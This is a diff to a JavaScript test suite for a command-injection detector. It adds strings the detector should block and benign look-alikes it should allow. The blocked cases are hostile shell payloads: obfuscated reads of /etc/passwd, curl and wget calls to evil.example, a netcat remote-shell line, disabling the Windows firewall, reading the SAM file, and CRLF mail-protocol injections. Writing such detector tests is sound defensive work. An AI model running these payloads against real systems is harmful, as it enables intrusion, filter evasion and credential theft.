@@ -21,6 +21,31 @@ describe("command injection detector", () => {
     "wget http://evil.example/shell.sh",
     "; /???/??t /e??/p?ss??",
     "| type C:\\Windows\\win.ini",
+    "whoami",
+    "' whoami",
+    "time sh -c whoami",
+    "nice -n 10 curl http://evil.example/x",
+    "nohup who",
+    "a=/etc&&b=/passwd&&c=cat&&$c $a$b",
+    "$SHELL -c \"echo hi\"",
+    ";$a cat /etc/passwd",
+    "c''at /etc/passwd",
+    "pi``ng 127.0.0.1",
+    "{,ifconfig}",
+    "c{a,oun}t /etc/passwd",
+    "${PATH#{}/}",
+    "$((7*7))",
+    "alias a=curl&a evil.example",
+    ";\n.shell nc 10.0.0.1 6666 -e sh",
+    "reg add \"HKLM\\System\\X\" /v y /t REG_DWORD /d 0 /f",
+    "netsh firewall set opmode disable",
+    "c89 -wrapper sh,-c,id .",
+    "ansible-inventory --list",
+    "which nc",
+    "x`echo${IFS}hi`",
+    "\r\nMAIL FROM:<a@b.example>",
+    "\r\na001 EXAMINE INBOX",
+    "type %SYSTEMROOT%\\repair\\SAM",
   ]) {
     it(`blocks ${attack}`, () => assert.ok(scoreOf(cmdiDetector, attack) >= BLOCKS, attack));
   }
@@ -35,9 +60,27 @@ describe("command injection detector", () => {
     "Q&A session (part 2)",
     "type 2 diabetes",
     "R&D; find more",
+    "exec (",
+    "time flies like an arrow",
+    "nice weather {a,b} today",
+    "which is better?",
+    "O'Brien's ''quoted'' text",
+    "use `echo` in Markdown prose",
+    "Total: $5.00 (incl. tax)",
+    "id",
+    "lastlog",
+    "Data\nList of items",
+    "ansible playbook examples",
   ]) {
     it(`lets ${benign} through`, () => assert.ok(scoreOf(cmdiDetector, benign) < BLOCKS, benign));
   }
+
+  it("flags a User-Agent that is a command line, but not a tool's product token", () => {
+    assert.ok(scoreOf(cmdiDetector, "ansible-inventory --list", "header", "user-agent") >= BLOCKS);
+    assert.ok(scoreOf(cmdiDetector, ";chmod +x evil.php", "header", "user-agent") >= BLOCKS);
+    for (const ua of ["curl/8.4.0", "Wget/1.21.4", "python-requests/2.31.0", "Go-http-client/1.1"])
+      assert.ok(scoreOf(cmdiDetector, ua, "header", "user-agent") < BLOCKS, ua);
+  });
 
   it("is more careful in User-Agent, where ';' and words are normal", () => {
     const ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36";
